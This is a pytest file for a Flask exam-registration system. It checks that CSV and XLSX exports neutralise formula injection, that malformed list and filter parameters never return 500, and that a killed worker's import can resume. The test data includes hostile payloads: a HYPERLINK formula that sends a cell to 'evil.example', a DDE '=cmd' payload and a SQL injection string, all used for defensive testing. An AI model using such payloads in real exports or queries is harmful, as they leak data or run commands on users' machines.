"""Robustness through HTTP: spreadsheet formula injection in every export, garbage list
parameters and filter values on every model view (no 500 anywhere), list actions of the
user screen, a physical result without restrictions, a photo upload racing the signature,
and a job whose rq worker was killed (Redis only)."""
import csv
import datetime as dt
import io
import os

import pytest
from flask_appbuilder.baseviews import BaseCRUDView
from openpyxl import load_workbook
from sqlalchemy import select, update

import app.menu as menu
import app.security_views as security_views
from app.candidates.models import Candidate
from app.extensions import db
from factories import make_candidate
from helpers import text

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


# --- item 8: formula injection ----------------------------------------------------------------


@pytest.fixture
def poisoned(app):
    """A candidate of 五十七中 whose address is a formula and whose phone starts with "+"."""
    return make_candidate(app, address=HYPERLINK, phone="+8612345678", remark="-1",
                          class_name="@SUM(1,1)")


def _id_number(app, candidate_id):
    with app.app_context():
        return db.session.get(Candidate, candidate_id).id_number


def test_xlsx_export_writes_formulas_as_text(app, login, poisoned):
    number = _id_number(app, poisoned)
    resp = login("zy_admin").get(f"/candidateview/export/xlsx?_flt_0_id_number={number}")
    assert resp.status_code == 200
    sheet = load_workbook(io.BytesIO(resp.data)).active
    header, row = list(sheet.iter_rows(values_only=True))
    record = dict(zip(header, row))
    assert record["通讯地址"] == "'" + HYPERLINK
    assert record["联系电话"] == "'+8612345678"
    assert record["备注"] == "'-1" and record["班级"] == "'@SUM(1,1)"
    assert record["身份证号"] == number  # plain values are untouched
    cells = [cell for cells in sheet.iter_rows() for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_csv_export_prefixes_formula_fields(app, login, poisoned):
    number = _id_number(app, poisoned)
    resp = login("zy_admin").get(f"/candidateview/export/csv?_flt_0_id_number={number}")
    header, row = list(csv.reader(io.StringIO(text(resp).lstrip("\ufeff"))))
    record = dict(zip(header, row))
    assert record["通讯地址"] == "'" + HYPERLINK
    assert record["联系电话"] == "'+8612345678"
    assert record["身份证号"] == number


def test_import_error_report_prefixes_formula_fields(app, login):
    """The row-by-row error report repeats the file's own column names."""
    c = login("zy_admin")
    c.refresh_token("/registry-import/")
    with app.app_context():
        from app.exams.models import Exam

        exam_id = db.session.execute(select(Exam.id).where(
            Exam.kind == "zhongzhao", Exam.year == 2026)).scalar_one()
    body = ("姓名,备用,=cmd|' /C calc'!A0,学校代码\n"
            "测试,123,x,41010201\n").encode("utf-8")
    resp = c.post("/registry-import/", {"exam": str(exam_id),
                                        "file": (io.BytesIO(body), "bad.csv")},
                  content_type="multipart/form-data")
    assert resp.status_code == 302, text(resp)
    batch_id = int(resp.location.rstrip("/").split("/")[-2])
    c.refresh_token(f"/registry-import/{batch_id}/mapping")
    resp = c.post(f"/registry-import/{batch_id}/mapping",
                  {"col_name": "0", "col_id_number": "2", "col_school_code": "3"})
    assert resp.status_code == 302, text(resp)
    c.run_jobs()
    report = text(c.get(f"/registry-import/{batch_id}/errors.csv")).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(report)))
    assert len(rows) > 1
    assert all(not field.startswith(("=", "+", "-", "@")) for row in rows for field in row)
    assert any(field.startswith("'=cmd") for row in rows for field in row)


# --- item 17: no 500 from list parameters, filters, actions -------------------------------------


def _model_view_names():
    """The CRUD views registered by menu.py, and FAB's user and role screens (ours)."""
    names = set()
    for module in (menu, security_views):
        for obj in vars(module).values():
            if isinstance(obj, type) and issubclass(obj, BaseCRUDView) and \
                    obj.__module__.startswith("app."):
                names.add(obj.__name__)
    return sorted(names)


VIEWS = _model_view_names()


def _view(app, name):
    views = [v for v in app.appbuilder.baseviews if type(v).__name__ == name]
    if not views:
        pytest.skip(f"{name} is not registered")
    return views[0]


@pytest.fixture
def admin(login):
    return login("henan_admin")


def _list_url(view):
    return f"{view.route_base}/list/"


#: combined in one request each (FAB reads the first value of a name): every kind of garbage
#: for page size, page and order meets FAB's int() / order_by in these few requests.
LIST_PARAMS = [
    "psize_{v}=abc&page_{v}=-1&_oc_{v}=no_such_column&_od_{v}=asc",
    "psize_{v}=-5&page_{v}=abc&_oc_{v}=id&_od_{v}=sideways&foo_page_bar=abc",
    "psize_{v}=99999999999999999999&page_{v}=99999999999999999999&_oc_{v}=__class__&_od_{v}=desc",
    "psize_{v}=0&page_{v}=1.5&xpsize_=abc&_oc_{v}=&_od_{v}=asc",
]


@pytest.mark.parametrize("name", VIEWS)
def test_garbage_list_parameters_never_answer_500(app, admin, name):
    view = _view(app, name)
    answers = {params: admin.get(_list_url(view) + "?" + params.format(v=name)).status_code
               for params in LIST_PARAMS}
    assert all(status == 200 for status in answers.values()), answers


ODD_VALUES = ["abc\\", "%_\\%", "-1", "99999999999999999999", "2026-13-45", "x\x00y",
              "' OR 1=1 --"]


def _filter_args(view, value):
    """Every search filter of ``view`` given ``value`` (FAB ANDs them)."""
    return [(f"_flt_{index}_{column}", value)
            for column, filters in view._filters.get_search_filters().items()
            for index in range(len(filters))]


@pytest.mark.parametrize("name", VIEWS)
def test_odd_row_ids_are_not_found(app, admin, name):
    view = _view(app, name)
    answers = {f"{view.route_base}/{page}/{pk}": None
               for page in ("show", "edit", "delete") for pk in ("abc", "99999999999999999999")}
    for url in answers:
        answers[url] = admin.get(url).status_code
    assert all(status in (403, 404, 405) for status in answers.values()), answers


@pytest.mark.parametrize("name", VIEWS)
def test_odd_filter_values_never_answer_500(app, admin, name):
    """All filters of the view at once per value; on a failure, one by one to name it."""
    view = _view(app, name)
    failures = []
    for value in ODD_VALUES:
        args = _filter_args(view, value)
        if admin.get(_list_url(view), query_string=args).status_code == 200:
            continue
        culprits = [(arg, value, status) for arg, _v in args
                    if (status := admin.get(_list_url(view),
                                            query_string={arg: value}).status_code) != 200]
        failures += culprits or [("all filters together", value)]
    assert not failures


def test_page_size_is_capped(app, admin):
    from app.list_inputs import MAX_PAGE_SIZE

    page = text(admin.get("/candidateview/list/?psize_CandidateView=100000"))
    with app.app_context():
        total = db.session.execute(select(db.func.count(Candidate.id))).scalar()
    assert total > MAX_PAGE_SIZE
    assert page.count('name="rowid"') == MAX_PAGE_SIZE


def test_starts_with_filter_matches_wildcards_literally(app, admin):
    """"50%" finds a class named "50%…", not every class starting with "50"."""
    cid = make_candidate(app, class_name="50%进度班")
    other = make_candidate(app, class_name="500班")
    for flt in ("_flt_0_class_name", "_flt_2_class_name"):  # starts with, contains
        page = text(admin.get("/candidateview/list/",
                              query_string={flt: "50%", "psize_CandidateView": "100"}))
        assert f"/candidateview/show/{cid}" in page, flt
        assert f"/candidateview/show/{other}" not in page, flt


def test_user_list_actions_answer_4xx_or_work(app, admin, ids):
    admin.refresh_token("/users/list/")
    user_id = ids.user("zy_school")
    one = admin.post("/users/action_post", {"action": "resetpasswords", "rowid": [str(user_id)]})
    assert one.status_code == 302 and "/resetpassword/" in one.location
    many = admin.post("/users/action_post", {"action": "resetpasswords",
                                             "rowid": [str(user_id), str(ids.user("zy_admin"))]})
    assert many.status_code == 400
    assert "一次只能" in text(many)
    none = admin.post("/users/action_post", {"action": "resetpasswords"})
    assert none.status_code == 400
    view = _view(app, "KsUserView")
    for name in view.actions:
        resp = admin.post("/users/action_post", {"action": name})
        assert resp.status_code < 500, name


@pytest.mark.parametrize("name", VIEWS)
def test_list_actions_without_rows_never_answer_500(app, admin, name):
    view = _view(app, name)
    admin.refresh_token(_list_url(view))
    failures = []
    for action in view.actions:
        for rows in ([], ["abc"], ["99999999999999999999"]):
            resp = admin.post(f"{view.route_base}/action_post", {"action": action, "rowid": rows})
            if resp.status_code >= 500:
                failures.append((action, rows, resp.status_code))
    assert not failures


@pytest.mark.parametrize("restrictions", [[], [""]], ids=["absent", "empty"])
def test_physical_result_without_restrictions_is_saved(app, login, restrictions):
    from app.gaokao.models import PhysicalExam

    cid = make_candidate(app, kind="gaokao", birth=dt.date(2008, 5, 5))
    number = _id_number(app, cid)
    clerk = login("zy_clerk")
    clerk.refresh_token("/physical/add")
    data = {
        "candidate_ref": number, "serial": "TJ-R1", "hospital": "中原区人民医院",
        "exam_date": "2026-04-10", "doctor": "张主检", "vision_naked_right": "5.0",
        "vision_naked_left": "5.0", "colour_vision": "1", "bp_systolic": "118",
        "bp_diastolic": "76", "height": "172.5", "weight": "61.0", "hearing_right": "5",
        "hearing_left": "5", "smell": "1", "conclusion": "1", "restriction_list": restrictions,
    }
    resp = clerk.post("/physical/add", data)
    assert resp.status_code in (200, 302)
    with app.app_context():
        saved = db.session.execute(select(PhysicalExam).where(
            PhysicalExam.candidate_id == cid)).scalar_one_or_none()
    assert resp.status_code == 302 and saved is not None, text(resp)
    assert not saved.restrictions


def test_photo_upload_racing_the_signature_answers_conflict(app, login, monkeypatch):
    """Another clerk marks the record signed between the page load and the photo's write."""
    from app.photos import service
    from photo_faces import encode, portrait

    cid = make_candidate(app)
    real = service.compliant_bytes

    def signed_meanwhile(data, kind):
        with db.engine.begin() as conn:
            conn.execute(update(Candidate).where(Candidate.id == cid).values(
                locked=True, version=Candidate.version + 1))
        return real(data, kind)

    monkeypatch.setattr(service, "compliant_bytes", signed_meanwhile)
    staff = login("zy_school")
    staff.refresh_token(f"/photos/candidate/{cid}")
    resp = staff.post(f"/photos/candidate/{cid}/upload?kind=photo",
                      {"file": (io.BytesIO(encode(portrait())), "p.jpg")},
                      content_type="multipart/form-data", headers={"Accept": "application/json"})
    assert resp.status_code == 409
    assert "同时" in resp.get_json()["failures"][0]["message"]


# --- item 16: a killed rq worker's import is failed within its lease, then resumed ---------------

REDIS_URL = os.environ.get("KAOSHENG_TEST_REDIS", "")
needs_redis = pytest.mark.skipif(
    not REDIS_URL, reason="set KAOSHENG_TEST_REDIS=redis://127.0.0.1:6379/15 to test rq mode")
LEASE_TTL = 2  # seconds (JOB_HEARTBEAT_TTL of the worker below); production default: 90

#: A real worker process (app.worker.AppWorker) whose import blocks after its first chunk
#: is committed, until it is killed.
WORKER_SCRIPT = r"""
import json, os, sys
sys.path[:0] = [os.environ["RB_ROOT"], os.path.join(os.environ["RB_ROOT"], "tests")]
from redis import Redis
import app.candidates.importer as importer
import app.job_records as job_records
from app import create_app
from app.worker import AppWorker

connection = Redis.from_url(os.environ["RB_REDIS"])
blocking = Redis.from_url(os.environ["RB_REDIS"], socket_timeout=None)
importer.CHUNK = 5
real_progress = job_records.report_progress

def progress_then_block(done, total, message=""):
    real_progress(done, total, message)
    if done < total:
        connection.rpush(os.environ["RB_SIGNAL"], done)
        blocking.blpop([os.environ["RB_SIGNAL"] + ":never"])  # until kill -9

job_records.report_progress = progress_then_block
config = json.loads(os.environ["RB_CONFIG"])
flask_app = create_app(config)
with flask_app.app_context():
    worker = AppWorker([config["RQ_QUEUE"]], connection=connection)
    worker.flask_app = flask_app
    worker.heartbeat_interval = config["JOB_HEARTBEAT_INTERVAL"]
    worker.heartbeat_ttl = config["JOB_HEARTBEAT_TTL"]
    worker.work(burst=True)
"""


def _import_rows(count):
    from app.validators import make_id_number

    birth = dt.date(2011, 11, 23)
    numbers = [make_id_number("410102", birth, 801 + 2 * i) for i in range(count)]
    out = io.StringIO()
    csv.writer(out).writerows([["姓名", "身份证号", "性别", "学校代码"]] +
                              [["续传" + "甲乙丙丁戊己庚辛壬癸子丑"[i], n, "男", "41010201"]
                               for i, n in enumerate(numbers)])
    return out.getvalue().encode("utf-8"), numbers


def _stored(app, numbers):
    """{id_number: number of rows} of the candidates with these ID numbers."""
    with app.app_context():
        rows = db.session.execute(select(Candidate.id_number, db.func.count(Candidate.id))
                                  .where(Candidate.id_number.in_(numbers))
                                  .group_by(Candidate.id_number)).all()
    return dict(rows)


def _start_worker(app, tmp_path, signal):
    import json
    import subprocess
    import sys

    from conftest import make_config

    config = make_config(tmp_path, SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
                         RQ_QUEUE=app.config["RQ_QUEUE"], UPLOAD_DIR=app.config["UPLOAD_DIR"],
                         JOB_HEARTBEAT_INTERVAL=0.3, JOB_HEARTBEAT_TTL=LEASE_TTL)
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    env = {**os.environ, "RB_ROOT": root, "RB_REDIS": REDIS_URL, "RB_SIGNAL": signal,
           "RB_CONFIG": json.dumps(config)}
    log = open(tmp_path / "worker.log", "wb")
    return subprocess.Popen([sys.executable, "-c", WORKER_SCRIPT], env=env, cwd=root,
                            stdout=log, stderr=subprocess.STDOUT)


def _poll(read, done, seconds):
    """Read until ``done(value)`` or ``seconds`` passed; return (value, seconds taken)."""
    import time

    started = time.monotonic()
    while True:
        value = read()
        if done(value) or time.monotonic() - started > seconds:
            return value, time.monotonic() - started
        time.sleep(0.2)


@needs_redis
def test_killed_worker_import_fails_within_its_lease_and_resumes_without_duplicates(
        app, login, tmp_path):
    import signal as signals
    import uuid

    from redis import Redis

    c = login("zy_admin")
    data, numbers = _import_rows(12)
    c.refresh_token("/registry-import/")
    with app.app_context():
        from app.exams.models import Exam

        exam_id = db.session.execute(select(Exam.id).where(
            Exam.kind == "zhongzhao", Exam.year == 2026)).scalar_one()
    resp = c.post("/registry-import/", {"exam": str(exam_id), "file": (io.BytesIO(data), "续传.csv")},
                  content_type="multipart/form-data")
    batch_id = int(resp.location.rstrip("/").split("/")[-2])
    resp = c.post(f"/registry-import/{batch_id}/mapping",
                  {"col_name": "0", "col_id_number": "1", "col_gender": "2", "col_school_code": "3"})
    assert resp.status_code == 302
    status_url = f"/registry-import/{batch_id}/status"

    signal = f"kaosheng-test-signal-{uuid.uuid4().hex[:8]}"
    worker = _start_worker(app, tmp_path, signal)
    try:
        reached = Redis.from_url(REDIS_URL, socket_timeout=None).blpop([signal], timeout=120)
        assert reached is not None, "the worker never reached the end of its first chunk"
        # Alive and renewing its lease: running, even after more than one lease length.
        alive, _taken = _poll(lambda: c.get(status_url).get_json(),
                              lambda d: d["status"] != "running", LEASE_TTL + 1)
        assert alive["status"] == "running" and alive["percent"] > 0
    finally:
        worker.send_signal(signals.SIGKILL)
        worker.wait()

    failed, taken = _poll(lambda: c.get(status_url).get_json(),
                          lambda d: d["status"] == "failed", 30)
    assert failed["status"] == "failed", failed
    assert taken < LEASE_TTL + 5
    from app.jobs import WORKER_STOPPED

    with app.test_request_context(headers={"Accept-Language": "zh"}):
        assert failed["message"] == str(WORKER_STOPPED)
    assert "后台进程" in failed["message"]
    partial = _stored(app, numbers)
    assert 0 < len(partial) < len(numbers) and set(partial.values()) == {1}
    assert 'id="resume"' in text(c.get(f"/registry-import/{batch_id}"))

    resp = c.post(f"/registry-import/{batch_id}/resume")
    assert resp.status_code == 302
    c.run_jobs()
    done = c.get(status_url).get_json()
    assert done["status"] == "done", done
    # The rows of the first run are found again (unchanged), the rest created.
    assert done["total"] == len(numbers) and done["rejected"] == 0
    assert done["created"] == len(numbers) - len(partial)
    assert _stored(app, numbers) == dict.fromkeys(numbers, 1)
